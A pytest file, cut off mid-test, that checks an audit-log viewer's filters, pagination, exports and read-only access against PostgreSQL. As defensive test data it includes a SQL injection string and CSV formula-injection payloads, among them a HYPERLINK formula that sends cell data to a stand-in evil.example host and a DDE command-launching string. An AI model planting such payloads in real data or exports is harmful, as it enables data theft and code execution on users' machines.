"""The viewer's query layer (audit_capture.viewer.filters / query / export) against a real
PostgreSQL: filters, keyset pages with equal timestamps, counts, items, exports, bad
input, the statement_timeout backstop and a read-only reader connection."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import make_conninfo
from werkzeug.datastructures import MultiDict

from audit_capture import record_action, set_context
from audit_capture.viewer import counts
from audit_capture.viewer import cursor as cursors
from audit_capture.viewer.actions import Item, change_rows, get_action, item_label, items_page
from audit_capture.viewer.errors import BadRequest, TooBroad
from audit_capture.viewer.export import EXPORT_COLUMNS, export_csv, export_json
from audit_capture.viewer.filters import direction, page_size, parse_filters
from audit_capture.viewer.options import load_options
from audit_capture.viewer.pages import list_page
from audit_capture.viewer.present import count_text

UTC = ZoneInfo("UTC")
T0 = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)
_role_numbers = itertools.count(1)


def put(conn, **values) -> int:
    """Insert one action directly (as the superuser), with defaults; its id."""
    row = {
        "occurred_at": T0,
        "action": "Client updated",
        "action_type": "update",
        "resource_type": "client",
        "resource_id": "1",
        "resource_label": "Ann Lee",
        "row_count": 1,
        "actor_id": "7",
        "actor_name": "Alice Admin",
        "actor_type": "admin",
        "source": "web",
        "changes": '{"email": {"old": "a@x", "new": "b@x"}}',
        "db_user": "crm_app",
        "transaction_id": 1,
        "operation": "UPDATE",
        "table_name": "public.clients",
    }
    row.update(values)
    query = sql.SQL("insert into audit.action_log ({}) values ({}) returning id").format(
        sql.SQL(", ").join(map(sql.Identifier, row)),
        sql.SQL(", ").join(sql.Placeholder() * len(row)),
    )
    return conn.execute(query, list(row.values())).fetchone()[0]


def ids(page) -> list[int]:
    return [r.id for r in page.rows]


def page_of(conn, args, **kwargs):
    return list_page(conn, parse_filters(args, UTC), size=200, **kwargs)


@pytest.fixture
def sample(conn):
    """Eight actions, one per interesting value, a minute apart (newest last)."""
    made = {
        "alice_update": put(conn),
        "bob_create": put(
            conn,
            occurred_at=T0 + timedelta(minutes=1),
            action="Client created",
            action_type="create",
            operation="INSERT",
            actor_id="8",
            actor_name="Bob Builder",
            source="api",
            resource_label="Cleo Diaz",
            changes='{"id": 2, "name": "Cleo Diaz"}',
        ),
        "db_delete": put(
            conn,
            occurred_at=T0 + timedelta(minutes=2),
            action="Campaign deleted",
            action_type="delete",
            operation="DELETE",
            resource_type="campaign",
            actor_id=None,
            actor_name="postgres",
            actor_type="system",
            source=None,
            resource_label="Spring Drive",
            changes='{"id": 3, "name": "Spring Drive"}',
        ),
        "client_status": put(
            conn,
            occurred_at=T0 + timedelta(days=1),
            action="Case status change",
            action_type="status_change",
            resource_type="case",
            actor_id="c-1",
            actor_name="Dana Client",
            actor_type="client",
            source="mobile",
            resource_label="Slip and fall",
            changes='{"status": {"old": "open", "new": "filed"}}',
        ),
        "ai_import": put(
            conn,
            occurred_at=T0 + timedelta(days=2),
            action="Clients imported (3)",
            action_type="import",
            operation="INSERT",
            resource_id=None,
            resource_label=None,
            row_count=3,
            actor_id="agent",
            actor_name="Intake agent",
            actor_type="system",
            source="ai",
            changes='{"rows": 3}',
        ),
        "login": put(
            conn,
            occurred_at=T0 + timedelta(days=3),
            action="LawRuler login",
            action_type="login",
            operation=None,
            resource_type="integration",
            resource_label="LawRuler",
            table_name=None,
            row_count=0,
            changes="{}",
        ),
        "call_export": put(
            conn,
            occurred_at=T0 + timedelta(days=4),
            action="Call export to file",
            action_type="export",
            operation=None,
            resource_type="call",
            resource_id=None,
            resource_label=None,
            table_name=None,
            row_count=0,
            changes='{"format": "csv", "calls": 12}',
        ),
    }
    conn.commit()
    return made


# -- filters ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, expected",
    [
        (
            {},
            [
                "call_export",
                "login",
                "ai_import",
                "client_status",
                "db_delete",
                "bob_create",
                "alice_update",
            ],
        ),
        ({"action_type": "create"}, ["bob_create"]),
        ({"action_type": "export"}, ["call_export"]),
        ({"actor": "id:7"}, ["call_export", "login", "alice_update"]),
        ({"actor": "name:postgres"}, ["db_delete"]),
        ({"actor_type": "system"}, ["ai_import", "db_delete"]),
        ({"source": "database"}, ["db_delete"]),
        ({"source": "mobile"}, ["client_status"]),
        ({"resource": "call"}, ["call_export"]),
        ({"from": "2025-03-11"}, ["call_export", "login", "ai_import", "client_status"]),
        ({"to": "2025-03-10"}, ["db_delete", "bob_create", "alice_update"]),
        ({"from": "2025-03-11", "to": "2025-03-12"}, ["ai_import", "client_status"]),
        ({"q": "cleo"}, ["bob_create"]),  # resource label
        ({"q": "Intake"}, ["ai_import"]),  # actor name
        ({"q": "lawrul*"}, ["login"]),  # action label, word* as a prefix
        ({"q": "lawrul"}, []),  # words match whole
        ({"q": "alice  LAWRULER!"}, ["login"]),  # every word, any case, punctuation ignored
        ({"q": "zebra"}, []),
    ],
)
def test_each_filter_alone(conn, sample, args, expected):
    page = page_of(conn, args)
    assert ids(page) == [sample[name] for name in expected]
    assert count_text(page.count) == (
        f"{len(expected)} action{'s' if len(expected) != 1 else ''}" if expected else "No actions"
    )


def test_combined_filters_and_their_sentence(conn, sample):
    filters = parse_filters(
        {"source": "web", "actor": "id:7", "resource": "client", "q": "ann", "to": "2025-03-12"},
        UTC,
    )
    assert ids(list_page(conn, filters)) == [sample["alice_update"]]
    assert filters.sentence() == (
        "Actor is 7, Source is Web, Resource is Clients, Date until 2025-03-12, Text matches “ann”"
    )
    assert filters.without("q") == {
        "actor": "id:7",
        "source": "web",
        "resource": "client",
        "to": "2025-03-12",
    }
    assert filters.query_args()["q"] == "ann"
    assert filters.slug() == "actor-id-7_source-web_resource-client_to-2025-03-12_q-ann"
    assert parse_filters({}, UTC).sentence() == "" and parse_filters({}, UTC).slug() == "all"
    assert ids(page_of(conn, {"source": "web", "actor_type": "client"})) == []


def test_the_where_clause_binds_every_value(conn):
    filters = parse_filters(
        {"actor": "name:x'); drop table audit.action_log; --", "q": "o'brien"}, UTC
    )
    condition, params = filters.where()
    text = condition.as_string(conn)
    assert "drop table" not in text and "brien" not in text
    assert "x'); drop table audit.action_log; --" in params.values()
    assert list_page(conn, filters).rows == []


def test_dates_are_whole_days_in_the_viewers_time_zone(conn):
    new_york = ZoneInfo("America/New_York")
    late = put(
        conn, occurred_at=datetime(2025, 3, 11, 3, 30, tzinfo=UTC)
    )  # 23:30 on the 10th there
    conn.commit()
    assert ids(
        list_page(conn, parse_filters({"from": "2025-03-10", "to": "2025-03-10"}, new_york))
    ) == [late]
    assert ids(list_page(conn, parse_filters({"from": "2025-03-11"}, new_york))) == []


def test_options_name_the_values_the_controls_offer(conn, sample):
    options = load_options(conn)
    assert ("id:7", "Alice Admin", "admin") in options.actors
    assert ("name:postgres", "postgres", "system") in options.actors
    assert ("database", "Database") in options.sources and (
        "mobile",
        "Mobile App",
    ) in options.sources
    resources = dict(options.resources)
    assert resources["client"] == "Clients" and resources["call"] == "Calls"
    assert ("status_change", "Status Change") in options.action_types
    assert ("export", "Export") in options.action_types
    assert ("logout", "Logout") not in options.action_types  # no logout in the log
    filters = parse_filters({"actor": "id:7", "resource": "campaign"}, UTC, options=options)
    assert filters.sentence() == "Actor is Alice Admin, Resource is Campaigns"
    with pytest.raises(BadRequest, match="resource is 'gizmo'; expected one of .*client"):
        parse_filters({"resource": "gizmo"}, UTC, options=options)


# -- bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, message",
    [
        (
            {"action_type": "upsert"},
            "action_type is 'upsert'; expected one of create, update, delete, status_change",
        ),
        ({"source": "webb"}, "source is 'webb'; expected one of web, api, ai, mobile, database"),
        ({"actor_type": "robot"}, "actor_type is 'robot'; expected one of admin, client, system"),
        ({"resource": "Client!"}, "resource is 'Client!'; expected a resource type"),
        ({"actor": "7"}, "actor is '7'; expected id:<actor id> or name:<actor name>"),
        ({"actor": "uid:7"}, "actor is 'uid:7'; expected id:"),
        ({"actor": "id:"}, "actor is 'id:'; expected id:"),
        ({"from": "10/03/2025"}, "from is '10/03/2025'; expected a date as YYYY-MM-DD"),
        ({"to": "2025-02-30"}, "to is '2025-02-30', which is not a date in the calendar"),
        ({"from": "2025-13-01"}, "from is '2025-13-01', which is not a date in the calendar"),
        (
            {"from": "2025-03-12", "to": "2025-03-11"},
            "to is 2025-03-11, which is before from (2025-03-12)",
        ),
        ({"q": "x" * 101}, "q is 101 characters long; expected 1 to 100 characters"),
        ({"q": "  "}, "q is empty"),
        ({"q": "%%"}, "q is '%%'; it needs at least one letter or digit"),
        ({"q": "**"}, "q is '**'; it needs at least one letter or digit"),
        ({"colour": "red"}, "colour is not a filter; expected one of action_type, actor"),
        (
            MultiDict([("q", "alice"), ("q", "bob")]),
            "q is given 2 times ('alice', 'bob'); expected it once",
        ),
    ],
)
def test_bad_filter_values_say_what_is_wrong(args, message):
    with pytest.raises(BadRequest) as raised:
        parse_filters(args, UTC)
    assert message in str(raised.value)


@pytest.mark.parametrize("value", ["0", "9", "201", "50x", "-10", "1e2"])
def test_bad_page_size(value):
    with pytest.raises(BadRequest, match=f"_size is '{value}'; expected a number from 10 to 200"):
        page_size(value)
    assert page_size(None) == 50 and page_size("200") == 200


def test_bad_direction_and_sizes_through_list_page(conn):
    with pytest.raises(BadRequest, match="_dir is 'up'; expected one of next, prev"):
        direction("up")
    with pytest.raises(BadRequest, match="_dir is 'sideways'"):
        list_page(conn, parse_filters({}, UTC), direction="sideways")
    with pytest.raises(BadRequest, match="_size is 5"):
        list_page(conn, parse_filters({}, UTC), size=5)


def _tampered(cursor: str) -> str:
    middle = len(cursor) // 2
    return cursor[:middle] + ("A" if cursor[middle] != "A" else "B") + cursor[middle + 1 :]


@pytest.mark.parametrize(
    "bad",
    [
        "garbage",
        "!!!!!!!!!!!!!!!!!!!!!!!!",
        "A" * 23,
        "",
        _tampered(cursors.encode(T0, 42)),
        cursors.encode(T0, 42)[:-2],
        cursors.encode(T0, 42) + "AAAA",
        # well-formed, at the ends of the calendar: a text search's day after was a 500
        cursors.encode(datetime(9999, 12, 31, 23, 59, tzinfo=UTC), 42),
        cursors.encode(datetime(9999, 1, 1, tzinfo=UTC), 42),
        cursors.encode(datetime(1, 12, 31, 23, tzinfo=UTC), 42),
    ],
)
def test_forged_garbled_or_tampered_cursors_are_bad_requests(conn, bad):
    with pytest.raises(BadRequest, match="_cursor is .* not a page position"):
        if bad == "":
            cursors.decode(bad)
        list_page(conn, parse_filters({}, UTC), cursor=bad)


def test_cursors_up_to_the_ends_of_the_calendar_the_viewer_computes_with():
    for moment in (cursors.EARLIEST, cursors.LATEST - timedelta(microseconds=1)):
        assert cursors.decode(cursors.encode(moment, 42)) == (moment, 42)


def test_cursor_round_trip_keeps_microseconds():
    moment = datetime(2025, 3, 10, 12, 0, 0, 123456, tzinfo=UTC)
    assert cursors.decode(cursors.encode(moment, 2**62)) == (moment, 2**62)
    assert cursors.decode(cursors.encode(moment.astimezone(ZoneInfo("Asia/Tokyo")), 5))[0] == moment


@pytest.mark.parametrize("bad", ["abc", "-1", "0", "1.5", "99999999999999999999", "١٢"])
def test_non_numeric_action_ids(conn, bad):
    with pytest.raises(BadRequest, match="the action id is .*; expected a positive whole number"):
        get_action(conn, bad)


# -- keyset pagination ---------------------------------------------------------------------


def test_pages_forward_and_back_across_equal_timestamps(conn):
    # 5 instants x 7 actions: every page boundary falls between actions of one instant
    made = [put(conn, occurred_at=T0 + timedelta(seconds=i // 7)) for i in range(35)]
    conn.commit()
    expected = sorted(made, key=lambda i: (made.index(i) // 7, i), reverse=True)
    filters = parse_filters({}, UTC)

    pages, page = [], list_page(conn, filters, size=10)
    assert page.prev_cursor is None
    while True:
        pages.append(ids(page))
        if page.next_cursor is None:
            break
        page = list_page(conn, filters, cursor=page.next_cursor, size=10)
    assert [len(p) for p in pages] == [10, 10, 10, 5]
    assert list(itertools.chain(*pages)) == expected  # none lost, none repeated

    back = page
    for number in (2, 1, 0):
        back = list_page(conn, filters, cursor=back.prev_cursor, direction="prev", size=10)
        assert ids(back) == pages[number]
    assert back.prev_cursor is None and back.next_cursor is not None


def test_prev_from_the_second_page_is_the_whole_first_page(conn):
    made = [put(conn, occurred_at=T0 + timedelta(seconds=i)) for i in range(25)]
    conn.commit()
    filters = parse_filters({"actor": "id:7"}, UTC)
    first = list_page(conn, filters, size=10)
    second = list_page(conn, filters, cursor=first.next_cursor, size=10)
    assert ids(second) == made[::-1][10:20]
    again = list_page(conn, filters, cursor=second.prev_cursor, direction="prev", size=10)
    assert ids(again) == ids(first) and again.prev_cursor is None


def test_count_text_is_exact_when_small_or_cheap_to_check(conn, monkeypatch):
    monkeypatch.setattr(counts, "COUNT_PROBE_MS", 60_000)  # behaviour, not the machine's speed
    # past 1,000 matches, an estimate of at most 3,333 is checked by counting up to 3x
    # it: these 1,503 actions are counted (tests/test_viewer_counts.py: every case)
    for i in range(3):
        put(conn, occurred_at=T0 + timedelta(seconds=i), source="api")
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, actor_type, db_user,"
        " transaction_id, source) select %s - g * interval '1 second', 'Client updated',"
        " 'update', 'admin', 'crm_app', 1, 'web' from generate_series(1, 1500) g",
        (T0,),
    )
    conn.commit()
    conn.execute("analyze audit.action_log")
    conn.commit()
    api = list_page(conn, parse_filters({"source": "api"}, UTC), size=10)
    assert count_text(api.count) == "3 actions"
    first = list_page(conn, parse_filters({"source": "api"}, UTC), size=10)
    assert first.next_cursor is None
    everything = list_page(conn, parse_filters({}, UTC), size=10)
    assert count_text(everything.count) == "1,503 actions"
    web = parse_filters({"source": "web"}, UTC)
    second = list_page(conn, web, cursor=list_page(conn, web, size=10).next_cursor, size=10)
    assert len(second.rows) == 10 and count_text(second.count) == "1,500 actions"
    # a later page of a small result still counts exactly
    tiny = parse_filters({"source": "api"}, UTC)
    later = list_page(conn, tiny, cursor=cursors.encode(T0 + timedelta(days=1), 1), size=10)
    assert count_text(later.count) == "3 actions"


# -- one action, its changes and its items ----------------------------------------------------


def _crm_actions(conn):
    with conn.transaction():
        set_context(conn, actor_id=7, actor_name="Alice Admin", actor_type="admin", source="web")
        client_id = conn.execute(
            "insert into clients (name, email, ssn)"
            " values ('Ann Lee', 'a@x.com', '123') returning id"
        ).fetchone()[0]
        conn.execute("update clients set email = 'b@x.com' where id = %s", (client_id,))
        conn.execute("delete from clients where id = %s", (client_id,))
        record_action(
            conn,
            "export",
            "Call export to file",
            resource_type="call",
            changes={"format": "csv", "calls": 12},
        )
        conn.execute(
            "insert into clients (name) select 'Client ' || g from generate_series(1, 120) g"
        )
    return conn.execute("select id from audit.action_log order by id desc limit 5").fetchall()[::-1]


def test_change_rows_for_create_update_delete_and_event(conn):
    (create,), (update,), (delete,), (event,), (bulk,) = _crm_actions(conn)
    created = dict((c, (o, n)) for c, o, n in change_rows(get_action(conn, create)))
    assert created["name"] == (None, "Ann Lee") and created["ssn"] == (None, "[redacted]")
    assert change_rows(get_action(conn, update)) == [("email", "a@x.com", "b@x.com")]
    deleted = dict((c, (o, n)) for c, o, n in change_rows(get_action(conn, delete)))
    assert deleted["email"] == ("b@x.com", None) and deleted["ssn"] == ("[redacted]", None)
    assert change_rows(get_action(conn, event)) == [("calls", None, 12), ("format", None, "csv")]
    action = get_action(conn, bulk)
    assert action.row_count == 120 and action.operation == "INSERT"
    assert action.db_user and action.transaction_id and action.source == "web"
    assert all(old is None for _c, old, _n in change_rows(action))
    assert get_action(conn, 10**12) is None
    assert get_action(conn, str(update)).action == "Client updated"


def test_items_page_windows(conn):
    *_, (bulk,) = _crm_actions(conn)
    first = items_page(conn, bulk, size=50)
    assert [i.item_no for i in first.items] == list(range(1, 51))
    assert first.next_after == 50 and first.prev_after is None
    assert first.items[0].old is None and first.items[0].new["name"] == "Client 1"
    assert ("name", None, "Client 1") in first.items[0].change_rows()
    last = items_page(conn, bulk, after=100, size=50)
    assert [i.item_no for i in last.items] == list(range(101, 121))
    assert last.next_after is None and last.prev_after == 50
    middle = items_page(conn, bulk, after=50, size=50)
    assert middle.prev_after == 0 and middle.next_after == 100
    (update,) = conn.execute(
        "select id from audit.action_log where action = 'Client updated'"
    ).fetchone()
    single = items_page(conn, update)
    assert len(single.items) == 1 and single.items[0].change_rows() == [
        ("email", "a@x.com", "b@x.com")
    ]
    with pytest.raises(BadRequest):
        items_page(conn, bulk, after=-1)


# -- exports ---------------------------------------------------------------------------------


def test_csv_export_parses_and_matches_the_page(conn, sample):
    filters = parse_filters({"to": "2025-03-13"}, UTC)
    data = b"".join(export_csv(conn, filters)).decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert [int(r["id"]) for r in rows] == ids(list_page(conn, filters))
    for row in rows:
        json.loads(row["changes"])  # JSON, not a Python repr
    by_name = {int(r["id"]): r for r in rows}
    assert json.loads(by_name[sample["alice_update"]]["changes"]) == {
        "email": {"old": "a@x", "new": "b@x"}
    }
    assert by_name[sample["db_delete"]]["source"] == ""
    assert datetime.fromisoformat(by_name[sample["alice_update"]]["occurred_at"]) == T0


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# what a spreadsheet runs: a leading = + - @ (or a full-width one), after spaces or not,
# or a leading control character
RUNS_AS_FORMULA = re.compile(r"^(\s*[-=+@\uff1d\uff0b\uff0d\uff20]|[\x00-\x1f\x7f])")
NOT_TEXT = {"id", "occurred_at", "row_count", "transaction_id"}


def test_every_text_column_of_the_csv_is_formula_safe(conn, db_url):
    """A formula in every field an application or a client can set, through
    audit.log_action, the context, the role and the connection: no CSV cell runs, and
    each is its value, exactly, behind the apostrophe."""
    role = "@SUM(1+1)*cmd|' /C calc'!A0"
    conn.execute(sql.SQL("create role {} nologin").format(sql.Identifier(role)))
    conn.commit()
    formulas = {
        "action": FORMULA,
        "resource_type": "+" + FORMULA,
        "resource_id": "-2+3+cmd",
        "resource_label": "\t" + FORMULA,
        "actor_id": "@" + FORMULA,
        "actor_name": " " + FORMULA,
        "request_id": "\uff1d1+1",
    }
    try:
        with psycopg.connect(db_url, application_name="=1+2") as app:
            app.execute(sql.SQL("set role {}").format(sql.Identifier(role)))
            set_context(
                app,
                actor_id=formulas["actor_id"],
                actor_name=formulas["actor_name"],
                actor_type="admin",
                source="web",
                request_id=formulas["request_id"],
                context={"note": FORMULA},
            )
            action_id = app.execute(
                "select audit.log_action('export', %s, %s, %s, %s, %s::jsonb)",
                (
                    formulas["action"],
                    formulas["resource_type"],
                    formulas["resource_id"],
                    formulas["resource_label"],
                    json.dumps({FORMULA: FORMULA}),
                ),
            ).fetchone()[0]
            app.commit()
        data = b"".join(export_csv(conn, parse_filters({}, UTC))).decode()
        table = list(csv.DictReader(io.StringIO(data, newline="")))
        assert set(table[0]) == set(EXPORT_COLUMNS)
        for row in table:
            for column, cell in row.items():
                assert not RUNS_AS_FORMULA.match(cell), (column, cell)
        (row,) = [r for r in table if r["id"] == str(action_id)]
        stored = conn.execute(
            sql.SQL("select {} from audit.action_log where id = %s").format(
                sql.SQL(", ").join(
                    sql.SQL("{}::text").format(sql.Identifier(c))
                    for c in EXPORT_COLUMNS
                    if c not in NOT_TEXT
                )
            ),
            (action_id,),
        ).fetchone()
        text_columns = [c for c in EXPORT_COLUMNS if c not in NOT_TEXT]
        for column, value in zip(text_columns, stored, strict=True):
            if value is None:
                assert row[column] == "", column
            elif RUNS_AS_FORMULA.match(value):
                assert row[column] == "'" + value, column
            else:
                assert row[column] == value, column
        for column, value in formulas.items():
            assert row[column] == "'" + value, column
        assert row["db_user"] == "'" + role and row["application_name"] == "'=1+2"
        # inside JSON text: the cell starts with {, and reads back exact
        assert json.loads(row["changes"]) == {FORMULA: FORMULA}
        assert json.loads(row["context"])["note"] == FORMULA
        # the JSON export keeps every value exact
        exported = {
            r["id"]: r for r in json.loads(b"".join(export_json(conn, parse_filters({}, UTC))))
        }
        assert {c: exported[action_id][c] for c in formulas} == formulas
    finally:
        conn.rollback()
        conn.execute(sql.SQL("drop role {}").format(sql.Identifier(role)))
        conn.commit()


def test_csv_cells_never_run_as_spreadsheet_formulas_and_json_keeps_them(conn):
    hostile = ['=HYPERLINK("http://evil.example","x")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
    for label in hostile:
        conn.execute(
            "insert into audit.action_log (occurred_at, action, action_type, resource_label,"
            " actor_name, actor_type, db_user, transaction_id) values (%s, 'Client updated',"
            " 'update', %s, %s, 'admin', 'crm_app', 1)",
            (T0, label, label),
        )
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, resource_label,"
        " actor_type, db_user, transaction_id) values (%s, 'Client updated', 'update',"
        " 'Ann - the second', 'admin', 'crm_app', 1)",
        (T0,),
    )
    conn.commit()
    data = b"".join(export_csv(conn, parse_filters({}, UTC))).decode()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert sorted(r["resource_label"] for r in rows) == sorted(
        ["'" + label for label in hostile] + ["Ann - the second"]
    )
    assert sorted(r["actor_name"] for r in rows if r["actor_name"]) == sorted(
        "'" + label for label in hostile
    )
    exact = json.loads(b"".join(export_json(conn, parse_filters({}, UTC))))
    assert sorted(r["resource_label"] for r in exact) == sorted(hostile + ["Ann - the second"])


def test_exports_keep_the_log_s_order_across_a_clock_change(conn):
    # in Paris, 02:30+02:00 (00:30 UTC) comes before 02:10+01:00 (01:10 UTC): ordered by
    # the exported text, the CSV had them the other way round
    earlier = datetime(2025, 10, 26, 0, 30, tzinfo=UTC)
    later = datetime(2025, 10, 26, 1, 10, tzinfo=UTC)
    for moment in (later, earlier):
        conn.execute(
            "insert into audit.action_log (occurred_at, action, action_type, actor_type, db_user,"
            " transaction_id) values (%s, 'Client updated', 'update', 'admin', 'crm_app', 1)",
            (moment,),
        )
    conn.commit()
    conn.execute("set timezone = 'Europe/Paris'")
    filters = parse_filters({"from": "2025-10-25", "to": "2025-10-27"}, UTC)
    table = list(csv.DictReader(io.StringIO(b"".join(export_csv(conn, filters)).decode())))
    assert [r["occurred_at"] for r in table] == [
        "2025-10-26T02:10:00+01:00",
        "2025-10-26T02:30:00+02:00",
    ]
    exported = json.loads(b"".join(export_json(conn, filters)))
    assert [r["occurred_at"] for r in exported] == [r["occurred_at"] for r in table]
    assert (
        [r["id"] for r in exported]
        == [int(r["id"]) for r in table]
        == ids(list_page(conn, filters))
    )


def test_json_export_validates_and_matches_the_page(conn, sample):
    filters = parse_filters({"source": "web"}, UTC)
    exported = json.loads(b"".join(export_json(conn, filters)))
    page = list_page(conn, filters)
    assert [r["id"] for r in exported] == ids(page)
    assert list(exported[0]) == list(EXPORT_COLUMNS)
    assert exported[-1]["changes"] == {"email": {"old": "a@x", "new": "b@x"}}
    assert json.loads(b"".join(export_json(conn, parse_filters({"q": "nothing"}, UTC)))) == []


def test_exports_of_many_rows_stream_in_chunks(conn):
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, actor_type, db_user,"
        " transaction_id) select %s - g * interval '1 second', 'Client updated', 'update',"
        " 'admin', 'crm_app', 1 from generate_series(1, 3000) g",
        (T0,),
    )
    conn.commit()
    chunks = list(export_csv(conn, parse_filters({}, UTC)))
    assert len(chunks) > 1 and sum(c.count(b"\n") for c in chunks) == 3001
    assert len(json.loads(b"".join(export_json(conn, parse_filters({}, UTC))))) == 3000


def test_a_csv_export_in_batches_loses_and_repeats_no_row_at_equal_timestamps(conn):
    # 5,000 actions of one instant, each label with a comma, a quote and a line break:
    # the batches (ITERSIZE rows) meet inside the tie, and the rows span several lines
    from audit_capture.viewer.export import ITERSIZE

    count = 2 * ITERSIZE + 1000
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, actor_type, db_user,"
        " transaction_id, resource_label) select %s, 'Client updated', 'update', 'admin',"
        " 'crm_app', 1, 'Doe, \"J\"' || chr(10) || g from generate_series(1, %s) g",
        (T0, count),
    )
    conn.commit()
    filters = parse_filters({"to": "2025-03-10"}, UTC)
    table = list(
        csv.DictReader(io.StringIO(b"".join(export_csv(conn, filters)).decode(), newline=""))
    )
    expected = [
        r[0]
        for r in conn.execute(
            "select id from audit.action_log where occurred_at = %s order by id desc", (T0,)
        )
    ]
    assert [int(r["id"]) for r in table] == expected and len(expected) == count
    assert {r["resource_label"].split("\n")[0] for r in table} == {'Doe, "J"'}


# -- the backstop and the read-only reader ----------------------------------------------------


def test_a_statement_timeout_becomes_too_broad(conn, db_url):
    # a word in every row and a source in none: the page gathers every match of the word
    # from the full-text index; far longer than 1 ms
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, actor_type, db_user,"
        " transaction_id, source) select %s - g * interval '1 second', 'Client updated',"
        " 'update', 'admin', 'crm_app', 1, 'web' from generate_series(1, 300000) g",
        (T0,),
    )
    conn.commit()
    conn.execute("analyze audit.action_log")
    conn.commit()
    with psycopg.connect(db_url, options="-c statement_timeout=1") as slow:
        filters = parse_filters({"q": "client", "source": "mobile"}, UTC)
        with pytest.raises(TooBroad, match="took too long; narrow it"):
            list_page(slow, filters)
        # an export walks the log along its index and finds its first rows at once; made
        # to wait (the log locked by another session), it is cancelled in the same way
        with conn.transaction():
            conn.execute("lock table audit.action_log in access exclusive mode")
            with pytest.raises(TooBroad):
                b"".join(export_csv(slow, filters))
            with pytest.raises(TooBroad):
                b"".join(export_json(slow, filters))
        slow.execute("set statement_timeout = 0")  # the connection is still usable
        assert list_page(slow, filters).rows == []


@pytest.fixture
def reader_url(conn, db_url):
    """A LOGIN role granted audit_reader, connecting read-only (as the viewer does)."""
    name = f"viewer_{next(_role_numbers)}_{conn.info.dbname}"
    with conn.transaction():
        conn.execute(
            sql.SQL("create role {} login in role audit_reader").format(sql.Identifier(name))
        )
    yield make_conninfo(db_url, user=name, options="-c default_transaction_read_only=on")
    conn.rollback()
    with conn.transaction():
        conn.execute(sql.SQL("drop owned by {0}; drop role {0}").format(sql.Identifier(name)))


@pytest.mark.parametrize("autocommit", [True, False])
def test_the_query_layer_works_through_a_read_only_reader(conn, reader_url, autocommit):
    *_, (bulk,) = _crm_actions(conn)
    conn.commit()
    with psycopg.connect(reader_url, autocommit=autocommit) as reader:
        assert reader.execute("show default_transaction_read_only").fetchone()[0] == "on"
        filters = parse_filters({"actor": "id:7", "q": "client"}, UTC, options=load_options(reader))
        page = list_page(reader, filters, size=10)
        assert page.rows and count_text(page.count) == f"{len(page.rows)} actions"
        assert list_page(reader, filters, cursor=page.rows[0].cursor, size=10).rows == page.rows[1:]
        assert get_action(reader, bulk).row_count == 120
        assert len(items_page(reader, bulk, size=10).items) == 10
        assert b"".join(export_csv(reader, filters)).count(b"\n") > 1
        assert json.loads(b"".join(export_json(reader, filters)))
        with pytest.raises(psycopg.errors.ReadOnlySqlTransaction):
            reader.execute("create temporary table scratch (x int)")


def test_text_search_uses_the_full_text_index(conn):
    """TEXT_DOCUMENT must stay the index's expression, or every search scans the log."""
    condition, params = parse_filters({"q": "alice"}, UTC).where()
    conn.execute("set local enable_seqscan = off")
    plan = "\n".join(
        r[0]
        for r in conn.execute(
            sql.SQL("explain select id from audit.action_log where {}").format(condition), params
        )
    )
    # (each month's partition has its copy: action_log_p2026_12_text_time_idx)
    assert re.search(r"action_log_\w*text_time_idx", plan), plan


# -- rare combinations of low-cardinality filters (the kind index probe) ----------------


@pytest.fixture
def common_log(conn):
    """20,000 web admin updates of clients (the common case), analyzed."""
    conn.execute(
        "insert into audit.action_log (occurred_at, action, action_type, resource_type,"
        " actor_id, actor_name, actor_type, db_user, transaction_id, source)"
        " select %s - g * interval '1 second', 'Client updated', 'update', 'client',"
        " 'admin-' || g %% 40, 'Alice Admin', 'admin', 'crm_app', 1, 'web'"
        " from generate_series(1, 20000) g",
        (T0,),
    )
    conn.commit()
    conn.execute("analyze audit.action_log")
    conn.commit()


@pytest.mark.parametrize(
    "args",
    [
        {"source": "mobile", "actor_type": "system"},
        {"action_type": "login", "resource": "client"},
        {"resource": "campaign"},
        {"source": "database", "action_type": "update"},
        {"actor_type": "client", "from": "2025-01-01"},
    ],
)
def test_a_combination_of_low_cardinality_filters_matching_nothing_is_an_empty_page(
    conn, common_log, args
):
    page = page_of(conn, args)
    assert page.rows == [] and page.next_cursor is None and count_text(page.count) == "No actions"


def test_the_kind_probe_reads_the_kind_index_only(conn, common_log):
    from audit_capture.viewer.kind_probe import _kind_branches, _kind_probe

    filters = parse_filters({"source": "web", "resource": "client"}, UTC)
    branches = _kind_branches(filters)
    assert len(branches) == 1  # source is filtered: no null branch
    assert _kind_probe(conn, filters, branches) == 1_001  # capped: common
    filters = parse_filters({"resource": "client"}, UTC)
    branches = _kind_branches(filters)
    assert len(branches) == 2  # an unfiltered source: a value, or null
    put(
        conn,
        occurred_at=T0 + timedelta(days=1),
        source=None,
        actor_id=None,
        actor_type="system",
        resource_type="case",
    )
    assert (
        _kind_probe(
            conn,
            parse_filters({"resource": "case"}, UTC),
            _kind_branches(parse_filters({"resource": "case"}, UTC)),
        )
        == 1
    )
    condition, params = filters.where()
    conn.execute("set local enable_seqscan = off")
    conn.execute("set local enable_bitmapscan = off")
    plan = "\n".join(
        r[0]
        for r in conn.execute(
            sql.SQL("explain select 1 from audit.action_log where {}").format(branches[0]), params
        )
    )
    # (each month's partition has its copy: action_log_p2026_12_kind_idx)
    assert re.search(r"Index Only Scan using action_log_\w*kind_idx", plan), plan
    assert "Seq Scan" not in plan
    # the planner settings of the probe do not outlive it in the caller's transaction
    conn.execute("reset enable_seqscan")
    _kind_probe(conn, filters, branches)
    assert conn.execute("show enable_seqscan").fetchone()[0] == "on"


def test_a_rare_combination_pages_in_order_forward_and_back(conn, common_log):
    # 25 mobile system actions over two days, 5 sharing each instant, among 20,000 web
